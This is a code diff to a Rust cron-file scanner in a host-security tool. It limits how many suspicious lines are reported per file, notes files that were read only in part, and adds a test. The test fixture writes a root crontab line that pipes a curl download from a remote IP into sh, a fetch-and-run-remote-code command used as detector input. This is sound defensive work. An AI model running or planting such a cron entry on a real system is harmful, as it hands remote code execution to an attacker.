@@ -45,6 +45,10 @@ const DIRS: &[&str] = &[
 /// Most files read per run; a spool with more is an anomaly in itself.
 const MAX_FILES: usize = 2000;
 
+/// Suspicious lines named per file; a crontab with more (a hostile one can hold millions) is
+/// summarised by how many more there are.
+const MAX_HITS_PER_FILE: usize = 20;
+
 const SHELLS: &str = r"(?:ba|da|z|k|c|tc|fi)?sh|python[0-9.]*|perl|ruby|php";
 
 static DOWNLOAD_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
@@ -185,6 +189,8 @@ fn format_of(path: &str) -> Format {
 pub fn observe(_params: &Params, ctx: &ProbeContext) -> Result<Observations, ProbeError> {
     let mut files: Vec<String> = FILES.iter().map(|s| s.to_string()).collect();
     let mut unreadable = Vec::new();
+    // What was cut: a file read only in part, suspicious lines beyond the ones named.
+    let mut notes: Vec<String> = Vec::new();
     for dir in DIRS {
         match ctx.host.list_dir(dir) {
             Ok(names) => files.extend(names.into_iter().map(|n| format!("{dir}/{n}"))),
@@ -208,7 +214,16 @@ pub fn observe(_params: &Params, ctx: &ProbeContext) -> Result<Observations, Pro
             Err(_) => continue,
         };
         checked += 1;
+        let mut file_notes = Vec::new();
+        if file.truncated {
+            file_notes.push(format!(
+                "{path}: only the first {} KiB were read (file too large)",
+                crate::host::MAX_FILE_BYTES >> 10
+            ));
+        }
+        let first_item = items.len();
         let format = format_of(path);
+        let mut hits = 0usize;
         for (n, line) in file.text.lines().enumerate() {
             let command = match format {
                 Format::Script if line.trim_start().starts_with('#') => continue,
@@ -219,6 +234,10 @@ pub fn observe(_params: &Params, ctx: &ProbeContext) -> Result<Observations, Pro
                 },
             };
             if let Some(reason) = classify(command) {
+                hits += 1;
+                if hits > MAX_HITS_PER_FILE {
+                    continue;
+                }
                 items.push(
                     Observation::new(path)
                         .flag("suspicious", true)
@@ -228,6 +247,14 @@ pub fn observe(_params: &Params, ctx: &ProbeContext) -> Result<Observations, Pro
                 );
             }
         }
+        if hits > MAX_HITS_PER_FILE {
+            file_notes.push(format!("{path}: {} more suspicious lines not listed", hits - MAX_HITS_PER_FILE));
+        }
+        // Every finding about the file says what of it was cut; so does the summary.
+        for item in &mut items[first_item..] {
+            item.evidence.extend(file_notes.iter().cloned());
+        }
+        notes.extend(file_notes);
     }
     if items.is_empty() && !unreadable.is_empty() {
         return Err(ProbeError::Skipped(
@@ -237,6 +264,9 @@ pub fn observe(_params: &Params, ctx: &ProbeContext) -> Result<Observations, Pro
     let mut scope = Observation::new("cron").num("files_checked", checked as f64);
     for u in unreadable {
         scope = scope.evidence(format!("{u}: permission denied"));
+    }
+    for n in notes {
+        scope = scope.evidence(n);
     }
     items.insert(0, scope);
     Ok(Observations::of(items))
@@ -292,5 +322,32 @@ mod tests {
         assert_eq!(table_command("SHELL=/bin/sh", sys), None);
         assert_eq!(table_command("# m h dom mon dow", sys), None);
         assert_eq!(table_command("* * *", sys), None);
+    }
+
+    /// A crontab of millions of suspicious lines, longer than the read cap: a bounded number of
+    /// findings, each saying how many more there are and that the file was read only in part.
+    #[test]
+    fn a_huge_crontab_is_summarised() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("etc")).unwrap();
+        let line = "* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n";
+        let ctx = |dir: &std::path::Path| {
+            ProbeContext::new(
+                crate::host::Host::new(dir),
+                std::time::Instant::now() + std::time::Duration::from_secs(60),
+                false,
+            )
+        };
+        std::fs::write(dir.path().join("etc/crontab"), line.repeat(100)).unwrap();
+        let obs = observe(&Params {}, &ctx(dir.path())).unwrap();
+        assert_eq!(obs.items.len(), 1 + MAX_HITS_PER_FILE);
+        assert!(obs.items[1].evidence.iter().any(|e| e == "/etc/crontab: 80 more suspicious lines not listed"));
+        let n = crate::host::MAX_FILE_BYTES as usize / line.len() + 1000;
+        std::fs::write(dir.path().join("etc/crontab"), line.repeat(n)).unwrap();
+        let obs = observe(&Params {}, &ctx(dir.path())).unwrap();
+        assert_eq!(obs.items.len(), 1 + MAX_HITS_PER_FILE);
+        let ev = &obs.items[MAX_HITS_PER_FILE].evidence;
+        assert!(ev.iter().any(|e| e == "/etc/crontab: only the first 1024 KiB were read (file too large)"), "{ev:?}");
+        assert!(obs.items[0].evidence.iter().any(|e| e.contains("more suspicious lines not listed")));
     }
 }
